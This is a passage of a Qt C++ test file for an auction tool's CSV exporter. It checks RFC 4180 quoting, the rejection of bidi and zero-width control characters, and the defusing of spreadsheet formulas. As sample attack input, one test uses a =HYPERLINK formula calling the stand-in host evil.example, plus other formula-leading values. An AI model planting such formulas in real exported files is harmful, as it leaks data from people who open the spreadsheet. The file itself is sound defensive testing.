    QVERIFY2(CsvExporter::exportAll(*fx.store, folder, &error), qPrintable(error));
    const auto again = readCsv(QDir(folder).filePath(u"bids.csv"_s));
    QVERIFY(again);
    QCOMPARE(again->rows.size(), 4);
    QCOMPARE(again->cell(3, u"day"_s), u"2"_s);
    QCOMPARE(again->cell(3, u"amount_eth"_s), u"1000.5"_s); // no thousands separator in a cell
    QCOMPARE(again->cell(3, u"amount_gwei"_s), u"1000500000000"_s);
    QCOMPARE(filesIn(folder), (QStringList{u"bids.csv"_s, u"results.csv"_s}));
}

void TestBackups::csvQuotesLikeRfc4180()
{
    MarathonConfig config = simpleConfig();
    for (int i = 1; i <= config.days; ++i) {
        Lot lot;
        lot.title = u"Noun %1, \"the\" one"_s.arg(i);
        config.lots.append(lot);
    }
    EngineFixture fx(config);
    fx.at(kDay1Open);
    const QString comma = u"Smith, \"Jr\""_s;
    const QString lines = u"first line\nsecond line\r\nthird"_s;
    QCOMPARE(fx.bid(comma, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.bid(lines, u"0.06 ETH, final offer"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.bid(u"plain"_s, u"0.07 ETH"_s).kind, BidOutcome::Kind::Accepted);
    // Bidi and zero-width controls never reach a spreadsheet: it would show them reordered.
    QCOMPARE(fx.bid(u"\u202Emallory\u200B"_s, u"bid \u202E5.0 ETH \u2066hi\u2069"_s).kind,
             BidOutcome::Kind::Rejected);

    const QString folder = fx.dir.filePath(u"export"_s);
    QString error;
    QVERIFY2(CsvExporter::exportAll(*fx.store, folder, &error), qPrintable(error));
    const auto bids = readCsv(QDir(folder).filePath(u"bids.csv"_s));
    QVERIFY2(bids, "bids.csv is not valid RFC 4180");
    QCOMPARE(bids->rows.size(), 4);
    QCOMPARE(bids->cell(3, u"bidder"_s), u"mallory"_s);
    QCOMPARE(bids->cell(3, u"text"_s), u"bid 5.0 ETH hi"_s);
    QCOMPARE(bids->cell(3, u"reason_code"_s), u"bad_number"_s);
    QCOMPARE(bids->cell(0, u"bidder"_s), comma);
    QCOMPARE(bids->cell(1, u"bidder"_s), lines);
    QCOMPARE(bids->cell(1, u"text"_s), u"0.06 ETH, final offer"_s);
    QCOMPARE(bids->cell(2, u"bidder"_s), u"plain"_s);

    // As written: doubled quotes inside quotes, line breaks kept inside the quoted field,
    // plain cells left bare.
    QVERIFY(bids->raw.contains(u",\"Smith, \"\"Jr\"\"\","_s));
    QVERIFY(bids->raw.contains(u",\"first line\nsecond line\r\nthird\","_s));
    QVERIFY(bids->raw.contains(u",plain,0.07,70000000,"_s));
    QVERIFY(bids->raw.endsWith(u"\r\n"_s));

    const auto results = readCsv(QDir(folder).filePath(u"results.csv"_s));
    QVERIFY2(results, "results.csv is not valid RFC 4180");
    QCOMPARE(results->cell(2, u"title"_s), u"Noun 3, \"the\" one"_s);

    QCOMPARE(CsvExporter::escapeCell(u"a,b"_s), u"\"a,b\""_s);
    QCOMPARE(CsvExporter::escapeCell(u"say \"hi\""_s), u"\"say \"\"hi\"\"\""_s);
    QCOMPARE(CsvExporter::escapeCell(u"a\nb"_s), u"\"a\nb\""_s);
    QCOMPARE(CsvExporter::escapeCell(u"a\rb"_s), u"\"a\rb\""_s);
    QCOMPARE(CsvExporter::escapeCell(u"0.05"_s), u"0.05"_s);
    QCOMPARE(CsvExporter::escapeCell(QString()), QString());
}

void TestBackups::csvDefusesFormulas()
{
    EngineFixture fx;
    fx.at(kDay1Open);
    const QString hyperlink = u"=HYPERLINK(\"http://evil.example/?leak\",\"Click me\")"_s;
    const QStringList dangerous = {hyperlink,        u"+1 555 0100"_s, u"-2+3"_s,
                                   u"@SUM(A1:A9)"_s, u"\t=1+1"_s,      u"\r=1+1"_s};
    Gwei amount = eth("0.05");
    for (const QString& name : dangerous) {
        QCOMPARE(fx.bid(name, amount.toEthString()).kind, BidOutcome::Kind::Accepted);
        amount = *amount.checkedAdd(eth("0.01"));
    }
    QCOMPARE(fx.bid(u"carol"_s, u"@everyone 0.5 ETH"_s).kind, BidOutcome::Kind::Accepted);

    const QString folder = fx.dir.filePath(u"export"_s);
    QString error;
    QVERIFY2(CsvExporter::exportAll(*fx.store, folder, &error), qPrintable(error));
    const auto bids = readCsv(QDir(folder).filePath(u"bids.csv"_s));
    QVERIFY2(bids, "bids.csv is not valid RFC 4180");
    QCOMPARE(bids->rows.size(), dangerous.size() + 1);

    // A spreadsheet shows these as text: the leading apostrophe stops it evaluating them.
    for (int i = 0; i < dangerous.size(); ++i) {
        QCOMPARE(bids->cell(i, u"bidder"_s), u"'"_s + dangerous[i]);
        QCOMPARE(bids->cell(i, u"bidder_id"_s), u"'"_s + dangerous[i]);
    }
    QCOMPARE(bids->cell(dangerous.size(), u"text"_s), u"'@everyone 0.5 ETH"_s);
    QCOMPARE(bids->cell(dangerous.size(), u"bidder"_s), u"carol"_s);
    // No cell anywhere in the file starts with a formula character.
    for (const QStringList& row : bids->rows) {
        for (const QString& cell : row)
            QVERIFY2(cell.isEmpty() || !u"=+-@\t\r"_s.contains(cell.front()), qPrintable(cell));
    }
    QVERIFY(!bids->raw.contains(u",=HYPERLINK"_s));
    QVERIFY(!bids->raw.contains(u"\"=HYPERLINK"_s));
}

} // namespace sb::auction::test

QTEST_GUILESS_MAIN(sb::auction::test::TestBackups)
#include "tst_backups.moc"
